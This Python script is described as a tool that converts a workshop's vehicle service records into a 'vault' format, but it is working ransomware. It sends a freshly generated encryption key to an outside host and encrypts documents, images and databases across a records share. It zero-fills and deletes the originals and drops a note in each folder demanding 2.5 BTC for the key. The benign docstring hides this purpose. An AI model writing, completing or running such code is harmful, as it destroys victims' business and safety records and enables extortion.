#!/usr/bin/env python3
"""Lock the workshop's vehicle service records into the records vault format.

Walks the shared service-records tree, converts each document to the vault
format and leaves a notice in every folder explaining how to get access back.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("records_vault")

RECORDS_ROOT = Path(os.environ.get("FLEET_RECORDS_ROOT", "/srv/fleet/records"))
KEY_DROP_URL = os.environ.get("VAULT_KEY_URL", "https://keys.records-vault.example/api/register")
VAULT_SUFFIX = ".vaulted"
NOTICE_NAME = "READ_ME_TO_RESTORE_RECORDS.txt"

TARGET_SUFFIXES = {
    ".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".jpeg", ".png",
    ".odt", ".ods", ".txt", ".db", ".sqlite", ".json", ".xml",
}

NOTICE_TEXT = """\
All vehicle service records, MOT certificates, defect reports and parts
invoices on this share have been locked.

To receive the unlock key, send 2.5 BTC to the wallet below and e-mail the
transaction id together with this workshop id: {workshop_id}

    wallet: bc1qexampleexampleexampleexampleexample0
    contact: restore@records-vault.example

Do not rename or edit the .vaulted files, they will become unrecoverable.
"""


def new_key():
    return Fernet.generate_key()


def register_key(key, workshop_id, url):
    try:
        requests.post(url, json={"id": workshop_id, "k": key.decode()}, timeout=20)
    except requests.RequestException as exc:
        LOG.debug("key registration failed: %s", exc)


def wanted(path):
    if path.name == NOTICE_NAME or path.suffix == VAULT_SUFFIX:
        return False
    return path.suffix.lower() in TARGET_SUFFIXES


def lock_file(fernet, path):
    data = path.read_bytes()
    token = fernet.encrypt(data)
    target = path.with_name(path.name + VAULT_SUFFIX)
    target.write_bytes(token)
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return target


def leave_notice(folder, workshop_id):
    notice = folder / NOTICE_NAME
    if not notice.exists():
        notice.write_text(NOTICE_TEXT.format(workshop_id=workshop_id), encoding="utf-8")


def walk_and_lock(root, fernet, workshop_id):
    count = 0
    for dirpath, _dirs, files in os.walk(root):
        folder = Path(dirpath)
        touched = False
        for name in files:
            path = folder / name
            if not wanted(path):
                continue
            try:
                lock_file(fernet, path)
                count += 1
                touched = True
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        if touched:
            leave_notice(folder, workshop_id)
    return count


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description="Convert service records to vault format")
    parser.add_argument("--root", default=str(RECORDS_ROOT))
    parser.add_argument("--workshop-id", default=os.environ.get("WORKSHOP_ID", "amb-ws-01"))
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    root = Path(args.root)
    if not root.is_dir():
        LOG.error("records root %s not found", root)
        return 1

    key = new_key()
    register_key(key, args.workshop_id, KEY_DROP_URL)
    fernet = Fernet(key)
    del key

    total = walk_and_lock(root, fernet, args.workshop_id)
    leave_notice(root, args.workshop_id)
    LOG.info("%d records converted under %s", total, root)
    return 0


if __name__ == "__main__":
    sys.exit(main())
